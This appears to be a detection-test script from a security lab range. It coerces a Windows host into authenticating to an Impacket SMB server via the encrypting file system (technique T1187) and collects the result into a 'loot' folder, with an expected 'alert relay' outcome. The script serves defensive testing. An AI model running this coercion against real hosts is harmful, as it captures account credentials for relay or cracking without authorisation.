# SPDX-License-Identifier: Apache-2.0
# what: a host made to log in at ws1, by its encrypting file system
# technique: T1187
# from: ws1
# to: win1
# accused: ws1,win1
# account: alice
# outcome: success
# must: alert relay
. "$RANGE_HERE/item.sh"
mkdir -p "$HOME/loot"
timeout 20 /usr/bin/python3 "$IMPACKET/smbserver.py" -smb2support share "$HOME/loot" >"$HOME/smbserver.log" 2>&1 </dev/null &
i=0
until nc -z 127.0.0.1 445 || [ $i = 60 ]; do i=$((i + 1)); sleep 0.2; done
calls efs $win1 alice "$USER_PASSWORD" || exit 1
sleep 3
says 'WIN1|10.77.0.50' cat "$HOME/smbserver.log"
